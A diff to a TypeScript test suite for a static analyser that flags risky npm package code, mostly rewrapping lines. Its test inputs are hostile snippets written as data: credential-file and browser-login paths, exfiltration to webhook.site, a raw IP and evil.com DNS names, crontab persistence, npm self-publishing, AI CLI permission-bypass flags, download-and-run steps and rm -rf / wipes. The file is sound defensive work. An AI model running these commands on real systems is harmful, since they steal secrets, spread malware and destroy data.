@@ -32,10 +32,14 @@ function only(src: string, ruleId: string) {
 
 describe('capabilities', () => {
   it('network: require, import and global fetch/WebSocket, once per file at the first occurrence', () => {
-    expect(hits("const h = require('https');\nconst n = require('node:net');")).toEqual(['npm.capability.network@1:11']);
+    expect(hits("const h = require('https');\nconst n = require('node:net');")).toEqual([
+      'npm.capability.network@1:11',
+    ]);
     expect(hits("import net from 'node:net';")).toEqual(['npm.capability.network@1:1']);
     expect(hits('x();\nconst s = new WebSocket(u);')).toEqual(['npm.capability.network@2:11']);
-    expect(hits("const r = await fetch('https://example.com/data.json');")).toEqual(['npm.capability.network@1:17']);
+    expect(hits("const r = await fetch('https://example.com/data.json');")).toEqual([
+      'npm.capability.network@1:17',
+    ]);
   });
 
   it('child-process: the module and Bun.spawn; a regex exec() is not a process', () => {
@@ -45,12 +49,16 @@ describe('capabilities', () => {
   });
 
   it('fs-write: calls on fs, fs/promises imports and require("fs").x; other objects are not fs', () => {
-    expect(hits("const fs = require('fs');\nfs.writeFileSync('out.txt', 'x');")).toEqual(['npm.capability.fs-write@2:1']);
+    expect(hits("const fs = require('fs');\nfs.writeFileSync('out.txt', 'x');")).toEqual([
+      'npm.capability.fs-write@2:1',
+    ]);
     expect(hits("import { writeFile as wf } from 'fs/promises';\nawait wf('a', 'b');")).toEqual([
       'npm.capability.fs-write@2:7',
     ]);
     expect(hits("require('fs-extra').outputFileSync('a', 'b');")).toEqual(['npm.capability.fs-write@1:1']);
-    expect(hits("const { appendFileSync: add } = require('node:fs');\nadd('a', 'b');")).toEqual(['npm.capability.fs-write@2:1']);
+    expect(hits("const { appendFileSync: add } = require('node:fs');\nadd('a', 'b');")).toEqual([
+      'npm.capability.fs-write@2:1',
+    ]);
     expect(hits("store.rename('a', 'b');")).toEqual([]);
   });
 
@@ -59,10 +67,12 @@ describe('capabilities', () => {
     expect(hits('eval(code);')).toEqual(['npm.capability.eval@1:1']);
     expect(hits('x();\n(0, eval)(code);')).toEqual(['npm.capability.eval@2:1']);
     expect(hits("const f = new Function('a', 'return a');")).toEqual(['npm.capability.eval@1:11']);
-    expect(hits("vm.runInNewContext(src, {});")).toEqual(['npm.capability.eval@1:1']);
+    expect(hits('vm.runInNewContext(src, {});')).toEqual(['npm.capability.eval@1:1']);
     expect(hits('const m = require(name);')).toEqual(['npm.capability.dynamic-require@1:11']);
     expect(hits('const m = await import(spec);')).toEqual(['npm.capability.dynamic-require@1:17']);
-    expect(hits("const a = require('./build/Release/addon.node');")).toEqual(['npm.capability.native-binary@1:11']);
+    expect(hits("const a = require('./build/Release/addon.node');")).toEqual([
+      'npm.capability.native-binary@1:11',
+    ]);
     expect(hits('process.dlopen(module, file);')).toEqual(['npm.capability.native-binary@1:1']);
   });
 
@@ -80,7 +90,13 @@ describe('capabilities', () => {
 describe('credential-read', () => {
   it('folds path.join(os.homedir(), ...) into a credential path', () => {
     const s = only("const p = path.join(os.homedir(), '.aws', 'credentials');", 'npm.threat.credential-read');
-    expect([s.line, s.column, s.severity, s.category, s.file]).toEqual([1, 11, 'medium', 'credential-read', 'lib/index.js']);
+    expect([s.line, s.column, s.severity, s.category, s.file]).toEqual([
+      1,
+      11,
+      'medium',
+      'credential-read',
+      'lib/index.js',
+    ]);
     expect(s.snippet).toBe("const p = path.join(os.homedir(), '.aws', 'credentials');");
   });
 
@@ -89,17 +105,27 @@ describe('credential-read', () => {
     expect(threats("const k = home + '/.n' + 'pmrc';")).toEqual(['npm.threat.credential-read@1:11']);
     expect(threats("const k = ['~/.s', 'sh/id_rsa'].join('');")).toEqual(['npm.threat.credential-read@1:11']);
     expect(threats('const k = `${process.env.HOME}/.npmrc`;')).toEqual(['npm.threat.credential-read@1:11']);
-    expect(threats("const d = 'Google/Chrome/User Data/Default/Login Data';")).toEqual(['npm.threat.credential-read@1:11']);
-    expect(threats("const id = 'nkbihfbeogaeaoehlefnkodbefgpgknn';")).toEqual(['npm.threat.credential-read@1:12']);
-    expect(threats("const w = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Local State';")).toEqual([
+    expect(threats("const d = 'Google/Chrome/User Data/Default/Login Data';")).toEqual([
       'npm.threat.credential-read@1:11',
     ]);
-    expect(threats("const e = fs.readFileSync('.env', 'utf8');")).toEqual(['npm.threat.credential-read@1:11']);
+    expect(threats("const id = 'nkbihfbeogaeaoehlefnkodbefgpgknn';")).toEqual([
+      'npm.threat.credential-read@1:12',
+    ]);
+    expect(
+      threats(
+        "const w = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Local State';",
+      ),
+    ).toEqual(['npm.threat.credential-read@1:11']);
+    expect(threats("const e = fs.readFileSync('.env', 'utf8');")).toEqual([
+      'npm.threat.credential-read@1:11',
+    ]);
     POSITIVE_INPUTS.push("const k = home + '/.n' + 'pmrc';", "const e = fs.readFileSync('.env', 'utf8');");
   });
 
   it('ignores comments, bare config-file names and prose', () => {
-    expect(threats('// reads ~/.npmrc and ~/.aws/credentials\n/* ~/.ssh/id_rsa */\nconst a = 1;')).toEqual([]);
+    expect(threats('// reads ~/.npmrc and ~/.aws/credentials\n/* ~/.ssh/id_rsa */\nconst a = 1;')).toEqual(
+      [],
+    );
     expect(threats("const names = ['.npmrc', '.yarnrc.yml'];")).toEqual([]);
     expect(threats("throw new Error('Invalid login data');")).toEqual([]);
     expect(threats("const e = fs.readFileSync('.envrc.example');")).toEqual([]);
@@ -118,19 +144,28 @@ describe('metadata-endpoint and exfiltration', () => {
   it('flags exfiltration hosts and public raw-IP URLs, not ordinary or private URLs', () => {
     expect(threats("post('https://webhook.site/0f3e');")).toEqual(['npm.threat.exfiltration@1:6']);
     expect(threats("post('http://45.9.148.3:8080/c');")).toEqual(['npm.threat.exfiltration@1:6']);
-    expect(threats("const u = 'https://api.github.com/user/repos';")).toEqual(['npm.threat.exfiltration@1:11']);
-    const gh = "https.request({ hostname: 'api.github.com', path: '/user/repos', method: 'POST',\n  headers: { Authorization: `token ${t}` } });";
+    expect(threats("const u = 'https://api.github.com/user/repos';")).toEqual([
+      'npm.threat.exfiltration@1:11',
+    ]);
+    const gh =
+      "https.request({ hostname: 'api.github.com', path: '/user/repos', method: 'POST',\n  headers: { Authorization: `token ${t}` } });";
     expect(threats(gh)).toEqual(['npm.threat.exfiltration@1:27']);
     expect(threats("https.request({ hostname: 'api.github.com', path: '/user/repos' });")).toEqual([]);
-        expect(threats("post('http://127.0.0.1:3000/'); post('http://192.168.1.10/'); post('https://example.com/');")).toEqual([]);
+    expect(
+      threats("post('http://127.0.0.1:3000/'); post('http://192.168.1.10/'); post('https://example.com/');"),
+    ).toEqual([]);
     expect(threats("const note = 'toast.fun is a game';")).toEqual([]);
-    expect(threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); doc('http://203.0.113.5/');")).toEqual([]);
+    expect(
+      threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); doc('http://203.0.113.5/');"),
+    ).toEqual([]);
     POSITIVE_INPUTS.push("post('https://webhook.site/0f3e');", "post('http://45.9.148.3:8080/c');");
   });
 
   it('flags DNS queries whose name carries data under a fixed domain', () => {
     expect(threats('dns.resolve4(`${chunk}.x.evil.com`, cb);')).toEqual(['npm.threat.exfiltration@1:1']);
-    expect(threats("dns.promises.lookup(data + '.tunnel.example.net');")).toEqual(['npm.threat.exfiltration@1:1']);
+    expect(threats("dns.promises.lookup(data + '.tunnel.example.net');")).toEqual([
+      'npm.threat.exfiltration@1:1',
+    ]);
     expect(threats('dns.lookup(host, cb);')).toEqual([]);
     POSITIVE_INPUTS.push('dns.resolve4(`${chunk}.x.evil.com`, cb);');
   });
@@ -144,9 +179,9 @@ describe('env-serialise', () => {
     ]);
     expect(threats('const q = new URLSearchParams(process.env);')).toEqual(['npm.threat.env-serialise@1:11']);
     expect(threats('res.send(Object.entries(process.env));')).toEqual(['npm.threat.env-serialise@1:1']);
-    expect(threats("const b = Buffer.from(JSON.stringify({ env: process.env })).toString('base64');")).toEqual([
-      'npm.threat.env-serialise@1:23',
-    ]);
+    expect(
+      threats("const b = Buffer.from(JSON.stringify({ env: process.env })).toString('base64');"),
+    ).toEqual(['npm.threat.env-serialise@1:23']);
     POSITIVE_INPUTS.push('res.send(Object.entries(process.env));');
   });
 
@@ -171,7 +206,7 @@ describe('obfuscation', () => {
       'npm.capability.eval@1:1',
       'npm.threat.obfuscation@1:1!high',
     ]);
-    expect(threats("new Function(atob(p))();")).toEqual(['npm.threat.obfuscation@1:1']);
+    expect(threats('new Function(atob(p))();')).toEqual(['npm.threat.obfuscation@1:1']);
     expect(threats('eval(x);')).toEqual([]);
     const both = `var a = _0x1a2b + _0x3c4d + _0x5e6f + _0x7a8b + _0x9c0d;${' '.repeat(200)}eval(x);`;
     expect(hits(both).filter((h) => h.includes('obfuscation'))).toEqual([
@@ -209,7 +244,9 @@ describe('persistence', () => {
     const s = only("const rc = '~/.zshrc';", 'npm.threat.persistence');
     expect([s.line, s.column]).toEqual([1, 12]);
     expect(s.message).not.toContain('write');
-    expect(threats("const p = path.join(home, '.claude', 'settings.json');")).toEqual(['npm.threat.persistence@1:11']);
+    expect(threats("const p = path.join(home, '.claude', 'settings.json');")).toEqual([
+      'npm.threat.persistence@1:11',
+    ]);
     expect(threats("const w = '.github/workflows/ci.yml';")).toEqual(['npm.threat.persistence@1:11']);
     expect(threats("exec('(crontab -l; echo x) | crontab -');")).toEqual(['npm.threat.persistence@1:1']);
     POSITIVE_INPUTS.push("exec('(crontab -l; echo x) | crontab -');");
@@ -223,7 +260,9 @@ describe('persistence', () => {
 describe('self-propagation', () => {
   it('flags npm publish in command strings and argument arrays, and NPM_TOKEN reads', () => {
     expect(threats("execSync('npm publish --access public');")).toEqual(['npm.threat.self-propagation@1:1']);
-    expect(threats("spawn('npm', ['publish', '--tag', 'latest']);")).toEqual(['npm.threat.self-propagation@1:1']);
+    expect(threats("spawn('npm', ['publish', '--tag', 'latest']);")).toEqual([
+      'npm.threat.self-propagation@1:1',
+    ]);
     expect(threats('const t = process.env.NPM_TOKEN;')).toEqual(['npm.threat.self-propagation@1:11']);
     POSITIVE_INPUTS.push("spawn('npm', ['publish', '--tag', 'latest']);", 'const t = process.env.NPM_TOKEN;');
   });
@@ -243,20 +282,23 @@ describe('ai-cli-abuse', () => {
     expect(hits("spawn('claude', ['--dangerously-skip-permissions', '-p', prompt]);")).toEqual([
       'npm.threat.ai-cli-abuse@1:1!high',
     ]);
-    expect(threats("exec('gemini -y -p \"list files\"');")).toEqual(['npm.threat.ai-cli-abuse@1:1']);
+    expect(threats('exec(\'gemini -y -p "list files"\');')).toEqual(['npm.threat.ai-cli-abuse@1:1']);
     expect(threats("const cmd = 'codex exec --dangerously-bypass-approvals-and-sandbox';")).toEqual([
       'npm.threat.ai-cli-abuse@1:13',
     ]);
-    POSITIVE_INPUTS.push("exec('gemini -y -p \"list files\"');");
+    POSITIVE_INPUTS.push('exec(\'gemini -y -p "list files"\');');
   });
 
   it('joins CLI names and bypass flags kept apart in a file that runs programs', () => {
-    const src = "const cp = require('child_process');\nconst flags = { claude: ['--dangerously-skip-permissions'] };\nfor (const c of ['claude']) cp.spawn(c, flags[c]);";
+    const src =
+      "const cp = require('child_process');\nconst flags = { claude: ['--dangerously-skip-permissions'] };\nfor (const c of ['claude']) cp.spawn(c, flags[c]);";
     expect(threats(src)).toEqual(['npm.threat.ai-cli-abuse@2:26']);
-    expect(threats("const flags = { claude: ['--dangerously-skip-permissions'] };\nconst c = 'claude';")).toEqual([]);
-    expect(threats("require('child_process').spawn('q', a);\nconst a = ['chat', '--trust-all-tools'];")).toEqual([
-      'npm.threat.ai-cli-abuse@2:20',
-    ]);
+    expect(
+      threats("const flags = { claude: ['--dangerously-skip-permissions'] };\nconst c = 'claude';"),
+    ).toEqual([]);
+    expect(
+      threats("require('child_process').spawn('q', a);\nconst a = ['chat', '--trust-all-tools'];"),
+    ).toEqual(['npm.threat.ai-cli-abuse@2:20']);
   });
 
   it('does not flag ordinary AI CLI runs or -y elsewhere', () => {
@@ -276,37 +318,47 @@ describe('download-exec, secret-scanner-download and destructive', () => {
   });
 
   it('flags download, chmod +x and run in one file', () => {
-    const src = "const cp = require('child_process');\ncp.execSync('wget https://x.io/b -O /tmp/b');\nfs.chmodSync('/tmp/b', 0o755);\ncp.execSync('/tmp/b');";
+    const src =
+      "const cp = require('child_process');\ncp.execSync('wget https://x.io/b -O /tmp/b');\nfs.chmodSync('/tmp/b', 0o755);\ncp.execSync('/tmp/b');";
     expect(threats(src)).toEqual(['npm.threat.download-exec@3:1']);
     expect(threats("fs.chmodSync('/tmp/b', 0o755);")).toEqual([]);
     POSITIVE_INPUTS.push(src);
   });
 
   it('flags secret scanners', () => {
-    expect(hits("get('https://github.com/trufflesecurity/trufflehog/releases/download/v3.63.0/trufflehog_linux_amd64.tar.gz');")).toEqual([
-      'npm.threat.secret-scanner-download@1:5!high',
-    ]);
+    expect(
+      hits(
+        "get('https://github.com/trufflesecurity/trufflehog/releases/download/v3.63.0/trufflehog_linux_amd64.tar.gz');",
+      ),
+    ).toEqual(['npm.threat.secret-scanner-download@1:5!high']);
   });
 
   it('flags wiping the home or root directory, not build directories', () => {
     expect(threats("exec('rm -rf ~/');")).toEqual(['npm.threat.destructive@1:1']);
     expect(threats("exec('rm -rf / --no-preserve-root');")).toEqual(['npm.threat.destructive@1:1']);
-    expect(threats('fs.rmSync(os.homedir(), { recursive: true, force: true });')).toEqual(['npm.threat.destructive@1:1']);
+    expect(threats('fs.rmSync(os.homedir(), { recursive: true, force: true });')).toEqual([
+      'npm.threat.destructive@1:1',
+    ]);
     expect(threats("exec('del /s /q %USERPROFILE%');")).toEqual(['npm.threat.destructive@1:1']);
     expect(threats("exec('rm -rf /tmp/build'); exec('rm -rf ./dist');")).toEqual([]);
-    POSITIVE_INPUTS.push("exec('rm -rf / --no-preserve-root');", 'fs.rmSync(os.homedir(), { recursive: true, force: true });', "exec('del /s /q %USERPROFILE%');");
+    POSITIVE_INPUTS.push(
+      "exec('rm -rf / --no-preserve-root');",
+      'fs.rmSync(os.homedir(), { recursive: true, force: true });',
+      "exec('del /s /q %USERPROFILE%');",
+    );
   });
 });
 
 describe('wallet-drainer', () => {
   it('needs two techniques and is then high', () => {
-    const src = "window.fetch = async () => 0;\nwindow.ethereum.request({ method: 'eth_sendTransaction', params });";
+    const src =
+      "window.fetch = async () => 0;\nwindow.ethereum.request({ method: 'eth_sendTransaction', params });";
     expect(hits(src)).toEqual(['npm.threat.wallet-drainer@1:1!high']);
-    expect(threats("const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;")).toEqual([
+    expect(threats('const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;')).toEqual([
       'npm.threat.wallet-drainer@1:12',
     ]);
     expect(threats('if (!global.fetch) global.fetch = polyfill;')).toEqual([]);
-    POSITIVE_INPUTS.push("const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;");
+    POSITIVE_INPUTS.push('const re = /0x[a-fA-F0-9]{40}/g;\nXMLHttpRequest.prototype.send = mine;');
   });
 });
 
@@ -337,7 +389,24 @@ describe('files that do not parse', () => {
       }),
       { numRuns: 300 },
     );
-    const pieces = ['require(', "'", '"', '`', '${', '}', '/*', '*/', '//', '\n', 'process.env', '+', 'eval(', ')', '_0x1234', ' '.repeat(160)];
+    const pieces = [
+      'require(',
+      "'",
+      '"',
+      '`',
+      '${',
+      '}',
+      '/*',
+      '*/',
+      '//',
+      '\n',
+      'process.env',
+      '+',
+      'eval(',
+      ')',
+      '_0x1234',
+      ' '.repeat(160),
+    ];
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
         expect(() => analyseJavaScript('f.js', parts.join(''))).not.toThrow();
@@ -355,7 +424,8 @@ describe('files that do not parse', () => {
 describe('mayHaveSignals', () => {
   it('passes every positive test input and rejects plain arithmetic', () => {
     expect(POSITIVE_INPUTS.length).toBeGreaterThan(40);
-    for (const src of POSITIVE_INPUTS) expect([src.slice(0, 60), mayHaveSignals(src)]).toEqual([src.slice(0, 60), true]);
+    for (const src of POSITIVE_INPUTS)
+      expect([src.slice(0, 60), mayHaveSignals(src)]).toEqual([src.slice(0, 60), true]);
     expect(mayHaveSignals('const a = [1, 2, 3].map((x) => x * 2);')).toBe(false);
   });
 });
